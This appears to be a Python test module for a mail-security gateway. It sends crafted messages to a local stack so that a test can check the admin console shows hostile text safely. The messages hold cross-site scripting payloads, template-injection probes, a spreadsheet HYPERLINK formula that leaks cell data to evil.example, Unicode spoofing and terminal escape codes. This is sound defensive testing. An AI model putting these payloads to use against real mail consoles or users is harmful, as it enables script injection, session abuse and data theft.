"""Mail that attacks whoever looks at it: hostile text in every place that the console shows."""

import base64
import smtplib
from urllib.parse import quote

from tests.gateway.mails import GTUBE
from tests.stack.running import Stack

WORD = "eviltextword"
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "' onmouseover='alert(3)' '",
    '</title></a></td><svg onload=alert(4)><x-injected hx-get="/accounts/logout/" hx-trigger="load">',
    "{{ 7|add:7 }}{% now 'Y' %}{{ csrf_token }}${7*7}",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "invoice \u202etxt.exe\u202c \u200bzero\u2066width",
    "a\x00nul\x07bell\x1b[31mred",
    "javascript:alert(5)",
    "Wide" * 80,
    "<!-- --><style>body{display:none}</style>&lt;b&gt;",
]


def _encoded(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def hostile_message(number: int, text: str) -> bytes:
    """Return a held message with the text as subject, names, header field, link, link text and file names."""
    attachment = [
        "--part",
        "Content-Type: application/octet-stream",
        f"Content-Disposition: attachment; filename*=utf-8''{quote(text)}",
        "Content-Transfer-Encoding: base64",
        "",
        base64.b64encode(b"MZ" + bytes(80)).decode(),
    ]
    page = (
        f'<p>{GTUBE}</p><a href="javascript:alert(6)">{text}</a> <a href="https://evil.example/{quote(text)}">{text}</a>'
        f'<a href="https://evil.example/{text.replace(chr(34), "")}">go</a>'
    )
    lines = [
        f"Received: from {text.encode('ascii', 'replace').decode()[:60]} (mx.evil.example [192.0.2.9])".replace(
            "\0", ""
        ),
        f"From: {_encoded(text)} <ann@evil.example>",
        f"To: {_encoded(text)} <target{number}@acme.example>",
        f"Reply-To: {_encoded(text)} <other@evil.example>",
        f"Subject: {_encoded(f'{WORD} no{number} {text}')}",
        f"X-Mailer: {_encoded(text)}",
        f"Message-ID: <hostile-{number}@evil.example>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="part"',
        "",
        "--part",
        "Content-Type: text/html; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        "",
        base64.encodebytes(page.encode()).decode().replace("\n", "\r\n").strip(),
        *attachment,
        "--part--",
        "",
    ]
    return "\r\n".join(lines).encode()


def send_hostile(stack: Stack) -> None:
    """Hand a message for each text to the intake, in the order of HOSTILE."""
    with smtplib.SMTP("127.0.0.1", stack.smtp_port, timeout=30) as smtp:
        for number, text in enumerate(HOSTILE):
            raw = hostile_message(number, text)
            assert smtp.sendmail("ann@evil.example", f"target{number}@acme.example", raw, ["BODY=8BITMIME"]) == {}
